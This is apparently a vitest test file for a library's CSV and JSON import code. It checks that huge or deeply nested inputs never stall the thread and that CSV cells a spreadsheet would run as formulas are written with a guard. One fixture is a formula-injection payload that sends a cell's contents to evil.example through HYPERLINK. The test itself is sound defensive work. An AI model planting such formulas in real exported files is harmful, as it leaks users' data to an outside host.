import { setImmediate } from 'node:timers/promises';
import { expect, test } from 'vitest';
import { csvLine } from '../../../../src/core/text/csv-line';
import { parseCsv } from '../../../../src/service/library/imports/csv';
import { parseJsonInPieces } from '../../../../src/service/library/imports/in-pieces';
import { readFile } from '../../../../src/service/library/imports/read-file';
import { threadTime } from '../../../support/thread-time';

/** Characters of the largest file that is taken. */
const LARGEST = 32 * 1024 * 1024;

const grow = (unit: string, length = LARGEST) => unit.repeat(Math.floor(length / unit.length));

test.each([
  ['quotes that are escaped', `[${grow('"\\"', 400_000)}`],
  ['quotes that are escaped, at full length', `[${grow('"\\"')}`],
  ['lists in lists', grow('[')],
  ['objects in objects', grow('{"a":')],
  ['one entry of full length', `[{"a":[${grow('1,')}1]}]`],
  ['one string of full length', `["${grow('a')}"]`],
  ['a million empty entries', `[${grow('{},', 3_000_000)}{}]`],
  ['columns without end', `${grow('a,')}\n${grow('a,', 4_000)}`],
  ['columns without end in each line', `title,date\n${grow(`${',a'.repeat(900)}\n`)}`],
  ['short lines below many columns', `${',a'.repeat(900)}\n${grow('a\n', 2_000_000)}`],
  ['doubled quotes', `title,date\n"${grow('""')}`],
  ['a quote in each cell', `title,date\n${grow('"",', 4_000_000)}`],
  ['one cell of full length', `title,date\n${grow('a')}`],
  ['no structure at all', `[${grow('a')}`],
  ['one string that never ends', `["${grow('a')}`],
  ['letters of three bytes', `[${grow('話', LARGEST / 3)}`],
  ['letters of two bytes', `title,date\n${grow('é', LARGEST / 2)}`],
])('%s keep nobody waiting', async (_, text) => {
  const bytes = Buffer.from(text);
  let longest = await longestWait(bytes);
  // One can be the garbage collector, and some the other programs of a busy machine.
  for (let again = 0; again < 4 && longest > 200; again += 1)
    longest = Math.min(longest, await longestWait(bytes));
  expect(longest).toBeLessThan(200);
});

async function longestWait(bytes: Uint8Array): Promise<number> {
  const read = new AbortController();
  const reading = readFile(bytes).finally(() => read.abort());
  let longest = 0;
  for (let last = threadTime(); !read.signal.aborted;) {
    await setImmediate();
    const now = threadTime();
    longest = Math.max(longest, now - last);
    last = now;
  }
  await reading;
  return longest;
}

test('a text that is nested too deep is no file, short or long', async () => {
  const nested = `${'['.repeat(100)}${']'.repeat(100)}`;
  expect(await parseJsonInPieces(`[${nested}${' '.repeat(250_000)}]`)).toBeUndefined();
  expect(await parseJsonInPieces(nested)).toBeUndefined();
});

test('cells that a spreadsheet would run are written guarded, and read without the guard', async () => {
  const titles = [
    '=HYPERLINK("https://evil.example/?"&A2,"x")',
    '+1',
    '-1',
    '@SUM(1)',
    '\t=1',
    '＝1',
    "'=1",
    "''+",
    ' =1',
    '"=1',
    "'Tis",
    'M, A',
  ];
  const file = csvLine(['title']) + titles.map((title) => csvLine([title])).join('');
  for (const line of file.split('\r\n').slice(1, 8)) expect(line).toMatch(/^"?'/);
  expect((await parseCsv(file)).map((row) => row['title'])).toEqual(titles);
});

test('numbers are no formulas', () => expect(csvLine([-1, null, undefined, 2.5])).toBe('-1,,,2.5\r\n'));
